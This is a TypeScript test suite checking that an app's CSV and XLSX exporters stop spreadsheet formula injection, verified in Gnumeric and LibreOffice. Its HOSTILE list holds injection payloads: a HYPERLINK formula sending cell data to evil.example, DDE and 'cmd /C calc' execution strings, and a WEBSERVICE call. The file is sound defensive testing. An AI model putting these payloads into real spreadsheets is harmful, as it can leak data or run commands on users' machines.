import fc from 'fast-check'
import { execFileSync } from 'node:child_process'
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { pathToFileURL } from 'node:url'
import { describe, expect, it } from 'vitest'
import type { Cell } from '../../../renderer/files/cell.ts'
import { toCsv } from '../../../renderer/files/csv.ts'
import { toXlsx } from '../../../renderer/files/xlsx.ts'
import { writeDirectory } from '../../../renderer/panels/extensions/directory/write.ts'

/** What begins a formula, in the ways that programs know, and what only looks so. */
const HOSTILE = [
  '=1+1',
  '=HYPERLINK("http://evil.example?"&A1;"Счёт")',
  '+1+1',
  '-1+1',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  "'=1+1",
  "''=1+1",
  '"=1+1',
  '";=1+1;"',
  'да,=1+1',
  'да;=1+1',
  'да\t=1+1',
  'да"\r\n=1+1',
  'да,=1+1,нет',
  'да, =1+1,нет',
  'да,"=1+1,нет',
  'да;=1+1;нет',
  'да\t=1+1\tнет',
  'да|=1+1|нет',
  'да:=1+1:нет',
  'да\n=1+1\nнет',
  'да\r=1+1\rнет',
  'да\r\n-1+1\r\nнет',
  'да,\u200B=1+1,нет',
  'да,-1-1,нет',
  'да,＝1+1,нет',
  '﹦1+1',
  '+7-916',
  '+7 -5',
  '-1:HYPERLINK("http://evil.example")',
  '-1,+HYPERLINK("http://evil.example")',
  '=DDE("cmd";"/C calc";"x")',
  '=WEBSERVICE("http://evil.example")',
  '{=1+1}',
  '%=1+1',
  '|=1+1',
  '+79161234567',
  '-250,00 ₽',
]

interface Opened {
  formulas: string[]
  texts: string[]
}

/** A folder that is there as long as `use` takes. */
function inFolder<T>(use: (folder: string) => T): T {
  const folder = mkdtempSync(join(tmpdir(), 'switchdesk-sheet-'))
  try {
    return use(folder)
  } finally {
    rmSync(folder, { recursive: true })
  }
}

/** A file as Gnumeric opens it: what it took for a formula, and what for a text or a figure. */
function opened(name: string, content: string | Uint8Array): Opened {
  return inFolder((folder) => {
    const [file, made] = [join(folder, name), join(folder, 'made.xml')]
    writeFileSync(file, content)
    execFileSync('ssconvert', ['-T', 'Gnumeric_XmlIO:sax:0', file, made], {
      env: { ...process.env, HOME: folder, LC_ALL: 'C.UTF-8' },
      stdio: 'ignore',
    })
    const cells = [
      ...readFileSync(made, 'utf8').matchAll(/<gnm:Cell ([^>]*)>([^<]*)<\/gnm:Cell>/g),
    ].map(([, attributes = '', text = '']) => ({ attributes, text: unescaped(text) }))
    // Only what it took for a value has a type.
    const isValue = ({ attributes }: { attributes: string }) => attributes.includes('ValueType=')
    return {
      formulas: cells.filter((one) => !isValue(one)).map(({ text }) => text),
      texts: cells.filter(isValue).map(({ text }) => text),
    }
  })
}

/**
 * Files as LibreOffice opens them, told to look for formulas.
 * @param separators where it splits those of text, as signs
 */
function inLibreOffice(files: Record<string, string | Uint8Array>, separators = ''): string[] {
  return inFolder((folder) => {
    for (const [name, content] of Object.entries(files)) writeFileSync(join(folder, name), content)
    const codes = [...separators].map((sign) => sign.charCodeAt(0)).join('/')
    // Separators, quotes, UTF-8, from the first line; the last one lets formulas be computed.
    const filter = `--infilter=CSV:${codes},34,76,1,,0,false,true,false,false,false,-1,true`
    execFileSync(
      'soffice',
      [
        `-env:UserInstallation=${pathToFileURL(join(folder, 'profile')).href}`,
        ...['--headless', '--convert-to', 'fods', '--outdir', join(folder, 'made')],
        ...(codes === '' ? [] : [filter]),
        ...Object.keys(files).map((name) => join(folder, name)),
      ],
      { stdio: 'ignore' },
    )
    return Object.keys(files).map((name) =>
      readFileSync(join(folder, 'made', name.replace(/\.\w+$/, '.fods')), 'utf8'),
    )
  })
}

const formulasInLibreOffice = (...given: Parameters<typeof inLibreOffice>): string[] =>
  inLibreOffice(...given).flatMap((made) =>
    [...made.matchAll(/table:formula="of:([^"]*)"/g)].map(([, text = '']) => text),
  )

const unescaped = (text: string): string =>
  text
    .replaceAll('&lt;', '<')
    .replaceAll('&gt;', '>')
    .replaceAll('&quot;', '"')
    .replaceAll(/&#(\d+);/g, (_, code: string) => String.fromCodePoint(Number(code)))
    .replaceAll(/&#x([\dA-F]+);/gi, (_, code: string) => String.fromCodePoint(parseInt(code, 16)))
    .replaceAll('&amp;', '&')

const SEPARATORS = [',', ';', '\t', '|', ':']

/** Each text in each column: only the first quote of a row means the same to a program that splits elsewhere. */
const inAllColumns = (texts: readonly string[]): Cell[][] => [
  ['Первый', 'Второй', 'Третий', 'Сумма'],
  ...texts.flatMap((text): Cell[][] => [
    [text, 'а', 'б', -1.5],
    ['а', text, 'б', -1.5],
    ['а', 'б', text, -1.5],
  ]),
]

/**
 * A table as a program that splits at `sign` sees it, for one that splits at commas, as Gnumeric does
 * here: the sign and the comma change places.
 */
const seenAt = (sign: string, table: string): string =>
  table.replaceAll(/[\s\S]/gu, (one) => (one === sign ? ',' : one === ',' ? sign : one))

const formulasAt = (sign: string, table: string): string[] =>
  opened('a.csv', seenAt(sign, table)).formulas

describe('a saved table in a spreadsheet program', () => {
  it('is judged by programs that do find formulas', () => {
    expect(opened('a.csv', 'x,=1+1\n').formulas).toEqual(['=1+1'])
    expect(formulasAt(',', '"a";"x,=1+1,y"\r\n')).toEqual(['=1+1'])
    expect(formulasAt(';', '"a","x;=1+1;y"\r\n')).toEqual(['=1+1'])
    expect(formulasInLibreOffice({ 'a.csv': '"x","=1+1"\n' }, ',')).toEqual(['=1+1'])
  })

  it.each(SEPARATORS)('has no formula where it splits at %j', (sign) => {
    expect(formulasAt(sign, toCsv(inAllColumns(HOSTILE)))).toEqual([])
  })

  it('has none in LibreOffice, which splits at one sign or at several', () => {
    const table = toCsv(inAllColumns(HOSTILE))
    const files = SEPARATORS.map((sign, place) => [`${place}.csv`, seenAt(sign, table)])
    expect(formulasInLibreOffice(Object.fromEntries(files) as Record<string, string>, ',')).toEqual(
      [],
    )
    expect(formulasInLibreOffice({ 'a.csv': table }, SEPARATORS.join(''))).toEqual([])
  })

  it('has none whatever its texts are made of', () => {
    const part = fc.constantFrom(
      ...['=', '+', '-', '@', '＝', '＋', '－', '＠', '\t', '\r', '\n', '\r\n', ' ', '\u00A0'],
      ...[',', ';', '|', ':', '"', "'", '1', '1+1', 'A1', 'SUM(1)', 'да', ')', '+7 916 123-45-67'],
    )
    const text = fc.array(part, { minLength: 1, maxLength: 7 }).map((parts) => parts.join(''))
    fc.assert(
      fc.property(
        fc.array(text, { minLength: 60, maxLength: 120 }),
        fc.constantFrom(...SEPARATORS),
        (texts, sign) => {
          expect(formulasAt(sign, toCsv(inAllColumns(texts)))).toEqual([])
        },
      ),
      { numRuns: 15, endOnFailure: true },
    )
  })

  it('has none as a workbook, and every text as it was', async () => {
    const workbook = await toXlsx(inAllColumns(HOSTILE))
    const { formulas, texts } = opened('a.xlsx', workbook)
    expect(formulas).toEqual([])
    for (const text of HOSTILE) expect(texts).toContain(text)
    expect(formulasInLibreOffice({ 'a.xlsx': workbook })).toEqual([])
  })

  it('has dates, figures and columns as wide as they are as a workbook', async () => {
    const at = new Date(Date.UTC(2026, 10, 22, 14, 5, 9))
    const workbook = await toXlsx([
      ['Время', 'Описание', 'Сумма'],
      [at, 'Абонентская плата по тарифу «Офис» за ноябрь', -1234.5],
    ])
    const [made = ''] = inLibreOffice({ 'a.xlsx': workbook })
    const [cell = ''] = /<table:table-cell [^>]*office:value-type="date"[^>]*>/.exec(made) ?? []
    expect(cell).toContain('office:date-value="2026-11-22T14:05:09"')
    expect(made).toMatch(/office:value-type="(float|currency)"[^>]*office:value="-1234.5"/)
    // Nothing is cut, and no figure is a row of hashes.
    expect(made).toMatch(/>-1[\s,.\u00a0\u202f]?234[.,]50</)
    const widths = [...made.matchAll(/style:column-width="([\d.]+)(?:in|cm)"/g)].map(([, width]) =>
      Number(width),
    )
    expect(Math.max(...widths)).toBeGreaterThan(3 * Math.min(...widths))
  })

  it('has none as a directory whose people and groups are called so', async () => {
    const people = HOSTILE.map((name, id) => ({
      id,
      name,
      extension: `0${100 + id}`,
      ...{ direct: ['74951234567'], callerId: '', groups: [name], queues: [] },
    }))
    const options = { title: '[Люди]', columns: ['Номер', 'Имя'], base: '', address: '' }
    for (const format of ['csv', 'xlsx'] as const) {
      const { ending, content } = await writeDirectory(format, people, options)
      const table = typeof content === 'string' ? seenAt(';', content) : content
      expect(opened(`a.${ending}`, table).formulas).toEqual([])
      expect(
        formulasInLibreOffice({ [`a.${ending}`]: content }, format === 'csv' ? ';' : ''),
      ).toEqual([])
    }
  })
})
